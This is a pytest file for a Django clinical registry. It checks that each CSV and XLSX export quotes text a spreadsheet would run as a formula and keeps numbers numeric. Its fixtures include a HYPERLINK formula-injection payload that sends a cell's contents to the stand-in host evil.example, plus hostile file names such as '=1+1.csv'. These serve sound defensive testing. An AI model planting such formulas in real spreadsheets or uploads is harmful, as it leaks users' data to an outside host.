"""Every CSV and XLSX the registry writes quotes text a spreadsheet would run as a formula
(= + - @, tab, carriage return at the start), and leaves numbers as numbers."""

import csv
import io
import zipfile
from io import StringIO

import openpyxl
import pandas as pd
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse

from analysis import outputs
from analysis.dataset import VARIABLES
from exchange import template
from exchange.safe import safe_cell, safe_frame
from registry.models import Institution, Membership, Patient
from tests import factories as f
from tests.exchange.test_import import csv_uploads

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
SITE = "=2+5"  # a site code an administrator typed: study IDs start with it too


def csv_rows(text):
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "value, written",
    [
        (HOSTILE, "'" + HOSTILE),
        ("+1+cmd", "'+1+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-0.5", "-0.5"),  # text that is just a number: no spreadsheet evaluates it
        ("+1.5e-3", "+1.5e-3"),
        ("KR01-001", "KR01-001"),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_a_cell_is_quoted_only_when_a_spreadsheet_would_run_it(value, written):
    assert safe_cell(value) == written


def test_a_frame_keeps_its_numbers_and_is_not_copied_when_nothing_is_hostile():
    frame = pd.DataFrame({"term": ["age", "sct"], "coef": [-0.5, 0.25]})
    assert safe_frame(frame) is frame
    hostile = pd.DataFrame({"term": [HOSTILE, "age"], "coef": [-0.5, 0.25], "n": [1, 2]})
    out = safe_frame(hostile)
    assert out["term"].tolist() == ["'" + HOSTILE, "age"]
    assert out["coef"].tolist() == [-0.5, 0.25] and out["coef"].dtype == float
    assert hostile["term"][0] == HOSTILE  # the caller's frame is left as it was


def test_the_audit_trail_csv_quotes_a_hostile_change_reason(client):
    superuser = f.user("root", sites=())
    superuser.is_superuser = superuser.is_staff = True
    superuser.save()
    p = f.patient()
    p._change_reason = HOSTILE
    p.sex = Patient.MALE
    p.save()
    client.force_login(superuser)
    response = client.get("/admin/monitoring/auditentry/export/")
    reasons = [r["reason"] for r in csv_rows(response.content.decode())]
    assert "'" + HOSTILE in reasons
    assert HOSTILE not in reasons


def test_the_streamed_dataset_csv_quotes_hostile_text_and_keeps_numbers(client):
    site = f.institution(SITE, "Hostile site code")
    p = f.patient(site=site)
    f.baseline(p)
    client.force_login(f.user("stat", role=Membership.STATISTICIAN, sites=(SITE,)))
    body = b"".join(client.get(reverse("analysis:dataset_csv")).streaming_content).decode()
    frame = pd.read_csv(StringIO(body))
    assert frame["institution"].tolist() == ["'" + SITE]
    assert frame["study_id"].tolist() == [f"'{SITE}-001"]
    assert frame["marrow_blasts_pct"].dtype == float  # numbers read back as numbers
    assert list(frame.columns) == list(VARIABLES)


@pytest.fixture
def hostile_demo(settings):
    settings.DEBUG = True
    call_command("seed_demo", stdout=StringIO())
    settings.DEBUG = False
    site = Institution.objects.get(code="KR01")
    for p in Patient.objects.filter(institution=site):
        Patient.objects.filter(pk=p.pk).update(study_id=p.study_id.replace("KR01", SITE))
    Institution.objects.filter(pk=site.pk).update(code=SITE)


def test_a_runs_dataset_and_adverse_event_files_quote_hostile_text(hostile_demo, tmp_path):
    call_command("run_analysis", "--out", str(tmp_path), stdout=StringIO())
    data = pd.read_csv(tmp_path / "analysis_dataset.csv")
    assert (data["institution"] == "'" + SITE).sum() > 0
    assert not data["institution"].str.startswith("=").any()
    assert data["os_months"].dtype == float
    events = pd.read_csv(tmp_path / "adverse_events.csv")
    assert events["study_id"].str.startswith(f"'{SITE}-").any()
    assert not events["study_id"].str.startswith("=").any()
    sheet = openpyxl.load_workbook(tmp_path / "analysis_dataset.xlsx").active
    header = [c.value for c in sheet[1]]
    cells = [row[header.index("institution")] for row in sheet.iter_rows(min_row=2)]
    hostile = [c for c in cells if c.value == "'" + SITE]
    assert hostile and all(c.data_type == "s" for c in hostile)  # text, never a formula
    months = [row[header.index("os_months")] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in months)


def test_table_csvs_and_tables_xlsx_quote_text_and_keep_negative_numbers(tmp_path):
    results = {
        "cox.csv": pd.DataFrame(
            {"term": [HOSTILE, "age_ge_55"], "coef": [-0.5, 0.25], "n": [3, 4]}
        ),
        "table1.csv": pd.DataFrame({"characteristic": ["@regimen"], "value": ["-"]}),
    }
    assert outputs.write_tables(results, tmp_path) == ["cox.csv", "table1.csv", "tables.xlsx"]
    cox = pd.read_csv(tmp_path / "cox.csv")
    assert cox["term"].tolist() == ["'" + HOSTILE, "age_ge_55"]
    assert cox["coef"].tolist() == [-0.5, 0.25] and cox["coef"].dtype == float
    assert pd.read_csv(tmp_path / "table1.csv").iloc[0].tolist() == ["'@regimen", "'-"]
    book = openpyxl.load_workbook(tmp_path / "tables.xlsx")
    term, coef, n = book["cox"]["A2"], book["cox"]["B2"], book["cox"]["C2"]
    assert (term.value, term.data_type) == ("'" + HOSTILE, "s")
    assert (coef.value, coef.data_type) == (-0.5, "n")
    assert (n.value, n.data_type) == (3, "n")


def test_the_codebook_csv_quotes_a_hostile_label(client, monkeypatch):
    monkeypatch.setitem(VARIABLES, "sex", (HOSTILE, None))
    client.force_login(f.user("inv"))
    rows = csv_rows(client.get(reverse("exchange:codebook_csv")).content.decode())
    (sex,) = [r for r in rows if r["variable"] == "sex" and r["source"].startswith("analysis")]
    assert sex["label"] == "'" + HOSTILE


def test_the_import_templates_quote_hostile_documentation(client, monkeypatch):
    docs = template.column_docs

    def hostile_docs(record_type):
        return [d.__class__(**{**d.__dict__, "description": HOSTILE}) for d in docs(record_type)]

    monkeypatch.setattr(template, "column_docs", hostile_docs)
    monkeypatch.setitem(VARIABLES, "sex", (HOSTILE, None))
    client.force_login(f.user("inv"))
    book = openpyxl.load_workbook(io.BytesIO(client.get(reverse("exchange:template_xlsx")).content))
    descriptions = [row[6] for row in book["README"].iter_rows() if len(row) > 6]
    described = [c for c in descriptions if c.value == "'" + HOSTILE]
    assert described and all(c.data_type == "s" for c in described)
    archive = zipfile.ZipFile(io.BytesIO(client.get(reverse("exchange:template_zip")).content))
    codebook = csv_rows(archive.read("codebook.csv").decode())
    assert "'" + HOSTILE in {r["label"] for r in codebook}


def test_the_import_problem_report_quotes_hostile_names_and_saves_nothing(client):
    site = f.institution("KR01")
    client.force_login(f.user("inv"))

    def report(uploads):
        data = {"files": uploads, "institution": site.pk, "problems_csv": "1"}
        response = client.post(reverse("exchange:import"), data)
        assert response["Content-Type"].startswith("text/csv")
        assert response["Content-Disposition"] == 'attachment; filename="import_problems.csv"'
        return csv_rows(response.content.decode())

    hostile_name = '=HYPERLINK("evil.example","Click")'
    rows = report(csv_uploads() + [SimpleUploadedFile(f"{hostile_name}.csv", b"a,b\n1,2\n")])
    assert [r["file_or_sheet"] for r in rows] == [f"'{hostile_name}.csv"]
    assert rows[0]["problem"].startswith("Not a template file")
    assert report(csv_uploads()) == []  # a clean upload: no problems, and only checked
    assert not Patient.objects.exists()


def test_the_import_command_writes_the_problem_report(tmp_path):
    f.institution("KR01")
    data = tmp_path / "upload"
    data.mkdir()
    (data / "=1+1.csv").write_text("a,b\n1,2\n", encoding="utf-8")
    report = tmp_path / "problems.csv"
    with pytest.raises(CommandError, match="nothing was imported"):
        call_command(
            "import_cases",
            str(data),
            "--institution",
            "KR01",
            "--problems-csv",
            str(report),
            stderr=StringIO(),
        )
    rows = csv_rows(report.read_text(encoding="utf-8"))
    assert [r["file_or_sheet"] for r in rows] == ["'=1+1.csv"]
